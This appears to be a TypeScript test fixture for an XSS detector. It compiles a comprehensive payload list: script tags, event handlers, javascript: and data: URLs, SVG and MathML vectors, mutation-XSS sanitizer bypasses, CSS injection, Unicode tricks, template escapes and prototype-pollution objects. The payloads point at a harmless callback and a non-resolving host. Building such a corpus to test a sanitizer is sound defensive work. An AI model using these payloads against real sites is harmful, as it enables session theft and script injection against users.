/** The function that a hostile text calls if it runs, defined by the XSS detector. */
const callback = 'window.__ran';

const call = `${callback}(1)`;
/** Host for payloads that load something: it does not exist. */
const host = 'https://hostile.invalid';
const base64 = Buffer.from(`<script>${call}</script>`).toString('base64');

/** Elements that run by themselves or at the first opportunity, from the OWASP and PortSwigger lists of XSS vectors. */
const scripts = [
  `<script>${call}</script>`,
  `<SCRIPT>${call}</SCRIPT>`,
  `<script >${call}</script >`,
  `<script\t>${call}</script>`,
  `<script/x>${call}</script>`,
  `<script src="${host}/x.js"></script>`,
  `<script src=//hostile.invalid/x.js></script>`,
  `<script type="module">${call}</script>`,
  `<script>/*<![CDATA[*/${call}/*]]>*/</script>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<<script>${call}//<</script>`,
  `"><script>${call}</script>`,
  `'><script>${call}</script>`,
  `</title><script>${call}</script>`,
  `</textarea><script>${call}</script>`,
  `</style><script>${call}</script>`,
  `</noscript><script>${call}</script>`,
  `--><script>${call}</script>`,
  `<!--><script>${call}</script>-->`,
  `<![CDATA[<script>${call}</script>]]>`,
  `<?xml version="1.0"?><script>${call}</script>`,
  `<script>\u2028${call}\u2029</script>`,
];

const elements: readonly string[] = ['img', 'svg', 'body', 'div', 'a', 'p', 'input', 'video', 'details', 'marquee'];
const events = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'ontoggle', 'onpointerrawupdate'];

/** Every handler on every element, with a source that fails to load. */
const handlers = elements.flatMap((element) =>
  events.map((event) => `<${element} src=x open autofocus tabindex=0 ${event}="${call}">words</${element}>`),
);

const handlerForms = [
  `<img src=x onerror=${call}>`,
  `<img src=x oNeRrOr=${call}>`,
  `<img src=x onerror\n=\n${call}>`,
  `<img/src=x/onerror=${call}>`,
  `<img src=x onerror="&#119;indow.__ran(1)">`,
  `<img src=x onerror=&#x77;indow.__ran(1)>`,
  `<img src=\`x\`onerror=${call}>`,
  `<img """><img src=x onerror=${call}>`,
  `<img src=x:x onerror=${call}//`,
  `<audio src=x onerror=${call}>`,
  `<video><source onerror=${call}></video>`,
  `<object data=x onerror=${call}></object>`,
  `<p style="animation-name:x" onanimationstart=${call}>x</p>`,
  `<p onbeforematch=${call} hidden=until-found>x</p>`,
  `<button popovertarget=x>x</button><p popover id=x onbeforetoggle=${call}>x</p>`,
  `<select autofocus onfocus=${call}><option>x</select>`,
  `" onmouseover="${call}" x="`,
  `' onfocus='${call}' autofocus='`,
  `\`onclick=${call}\``,
];

/** Script addresses in every notation that browsers have accepted. */
export const hostileAddresses = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `java\nscript:${call}`,
  `java\tscript:${call}`,
  `java\rscript:${call}`,
  `\u0001javascript:${call}`,
  ` javascript:${call}`,
  `\u00a0javascript:${call}`,
  `javascript\u200b:${call}`,
  `javascript&colon;${call}`,
  `javascript&#58;${call}`,
  `&#106;avascript:${call}`,
  `&#x6a;avascript:${call}`,
  `&#0000106avascript:${call}`,
  `java&Tab;script:${call}`,
  `java&NewLine;script:${call}`,
  `javascript://%0a${call}`,
  `javascript:/*--></title></style></textarea></script>*/${call}`,
  `vbscript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `data:text/html;base64,${base64}`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${call}'/>`,
  `data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>${call}</script>`,
  `blob:${host}/x`,
  `filesystem:${host}/x`,
  `view-source:javascript:${call}`,
  `feed:javascript:${call}`,
  `jar:javascript:${call}!/`,
  `//hostile.invalid/x`,
  `/\\hostile.invalid/x`,
  `\\\\hostile.invalid\\x`,
  `https:javascript:${call}`,
  `mailto:a@example.com?body=<script>${call}</script>`,
  `tel:<script>${call}</script>`,
  `#"><img src=x onerror=${call}>`,
];
const links = hostileAddresses.map((address) => `<a href="${address}">words</a>`);

const svg = [
  `<svg onload=${call}></svg>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><script href="data:,${call}"/></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s></svg>`,
  `<svg><set onbegin=${call} attributeName=x to=1></svg>`,
  `<svg><a xlink:href="javascript:${call}"><text x=20 y=20>x</text></a></svg>`,
  `<svg><a><animate attributeName=href values=javascript:${call} /><text x=20 y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=${call} /></svg>#x"/></svg>`,
  `<svg><image href="${host}/x.png"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${callback.slice(7)}(1)</script>"></foreignObject></svg>`,
  `<svg><handler type="text/javascript" ev:event="load">${call}</handler></svg>`,
  `<svg><style>*{background:url(${host}/x)}</style></svg>`,
];

const mathml = [
  `<math href="javascript:${call}">x</math>`,
  `<math><maction actiontype="statusline#${host}" xlink:href="javascript:${call}">x</maction></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${call}></style></mglyph></table></mtext></math>`,
  `<math><annotation-xml encoding="text/html"><script>${call}</script></annotation-xml></math>`,
  `<math><mi xlink:href="data:text/html,<script>${call}</script>">x</mi></math>`,
];

/**
 * Harmless when first parsed, hostile once serialised and parsed again (Heiderich's mXSS, and later sanitizer
 * bypasses).
 */
const mutations = [
  `<noscript><p title="</noscript><img src=x onerror=${call}>"></noscript>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${call}></style></mglyph></form>`,
  `<svg></p><style><a id="</style><img src=x onerror=${call}>">`,
  `<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src=x onerror=${call}>"></style></mtext></svg></mglyph></option></math>`,
  `<listing>&lt;img src=x onerror=${call}&gt;</listing>`,
  `<xmp><p title="</xmp><img src=x onerror=${call}>"></xmp>`,
  `<textarea><p title="</textarea><img src=x onerror=${call}>"></textarea>`,
  `<iframe><p title="</iframe><img src=x onerror=${call}>"></iframe>`,
  `<noembed><p title="</noembed><img src=x onerror=${call}>"></noembed>`,
  `<template><script>${call}</script></template>`,
  `<table><td><svg><desc><table><p><style><!--</style><img src=x onerror=${call}>--></style></table></desc></svg></td></table>`,
  `<p id="a" title="\`\`onmouseover=${call}">x</p>`,
  `<a href="x" title="&quot;&gt;&lt;img src=x onerror=${call}&gt;">x</a>`,
  `<code>&lt;/code&gt;&lt;script&gt;${call}&lt;/script&gt;</code>`,
  `<p>&amp;lt;img src=x onerror=${call}&amp;gt;</p>`,
  `<select><iframe src="javascript:${call}"></select>`,
  `<p><plaintext><script>${call}</script>`,
];

const frames = [
  `<iframe src="javascript:${call}"></iframe>`,
  `<iframe srcdoc="<script>parent.__ran(1)</script>"></iframe>`,
  `<iframe src="${host}"></iframe>`,
  `<frameset onload=${call}><frame src="${host}"></frameset>`,
  `<embed src="javascript:${call}">`,
  `<object data="data:text/html;base64,${base64}"></object>`,
  `<applet code="${host}"></applet>`,
  `<portal src="${host}"></portal>`,
  `<base href="${host}/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${call}">`,
  `<meta http-equiv="refresh" content="0;url=${host}">`,
  `<link rel="stylesheet" href="${host}/x.css">`,
  `<link rel="import" href="data:text/html,<script>${call}</script>">`,
  `<link rel="prefetch" href="${host}/x">`,
  `<form action="javascript:${call}"><button>x</button></form>`,
  `<form><button formaction="javascript:${call}">x</button></form>`,
  `<input type=image src=x onerror=${call}>`,
  `<isindex action="javascript:${call}">`,
  `<img src="${host}/x.png">`,
  `<video poster="${host}/x.png"></video>`,
  `<dialog open onclose=${call}>x</dialog>`,
];

const styles = [
  `<style>@import "${host}/x.css";</style>`,
  `<style>*{background:url("${host}/x")}</style>`,
  `<p style="background:url(${host}/x)">x</p>`,
  `<p style="width:expression(${call})">x</p>`,
  `<p style="behavior:url(${host}/x.htc)">x</p>`,
  `<p style="-moz-binding:url(${host}/x.xml#x)">x</p>`,
  `<p style="position:fixed;inset:0;z-index:99999">x</p>`,
  `</style><style>body{display:none}`,
  `x;}*{background:url(${host}/x)}`,
  `url(javascript:${call})`,
  `red;background:url(${host}/x)`,
];

/** Characters that change how a text is read: fullwidth, zero-width, right-to-left, other normal forms. */
const unicode = [
  `\uff1cscript\uff1e${call}\uff1c/script\uff1e`,
  `\u02c2script\u02c3${call}`,
  `<scr\u0131pt>${call}</scr\u0131pt>`,
  `<\u017fcript>${call}</\u017fcript>`,
  `<img src=x \u212anerror=${call}>`,
  `\u202e<img src=x onerror=${call}>`,
  `<script\u200b>${call}</script>`,
  `\ufeff<script>${call}</script>`,
  `<img src=x on\u00aderror=${call}>`,
  `%3Cscript%3E${call}%3C/script%3E`,
  `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
];

/** Escapes from data in a script or a template, and into engines that run texts as code. */
const escapes = [
  `</script><script>${call}</script>`,
  `</ScRiPt ><img src=x onerror=${call}>`,
  `<!--<script>`,
  `\\"};${call};//`,
  `'-${call}-'`,
  `"-${call}-"`,
  `\${${call}}`,
  `{{constructor.constructor('${call}')()}}`,
  `{{'a'.constructor.prototype.charAt=[].join;$eval('${call}')}}`,
  `#{${call}}`,
  `<%= ${call} %>`,
  `[[${call}]]`,
  `]]>${call}`,
  `*/${call}/*`,
  `\u2028${call}//`,
  `dangerouslySetInnerHTML`,
  `__proto__`,
  `constructor.prototype`,
];

/** All payloads, for every place that accepts a text. */
export const payloads: readonly string[] = [
  ...scripts,
  ...handlers,
  ...handlerForms,
  ...links,
  ...svg,
  ...mathml,
  ...mutations,
  ...frames,
  ...styles,
  ...unicode,
  ...escapes,
];

/** Keys and values that a careless merge or renderer would treat as its own. */
export const hostileProps: readonly Record<string, unknown>[] = [
  JSON.parse(`{"__proto__":{"polluted":true,"html":"<img src=x onerror=${call}>"}}`) as Record<string, unknown>,
  { constructor: { prototype: { polluted: true } } },
  { dangerouslySetInnerHTML: { __html: `<img src=x onerror=${call}>` } },
  { $$typeof: 'Symbol(react.element)', type: 'script', props: { src: `${host}/x.js` } },
  { text: { toString: call, __html: `<script>${call}</script>` } },
  { html: { __html: `<script>${call}</script>` } },
  { html: [`<script>${call}</script>`] },
  { ref: call, key: `"><script>${call}</script>`, children: `<script>${call}</script>` },
  { className: `x" onmouseover="${call}`, style: `background:url(${host}/x)`, onClick: call },
  { is: 'script', srcDoc: `<script>${call}</script>`, href: `javascript:${call}` },
  JSON.parse(`{"then":"${call}","toJSON":"${call}","valueOf":"${call}"}`) as Record<string, unknown>,
  { [`<script>${call}</script>`]: 1, '</script>': 2, '"onload="': 3 },
];
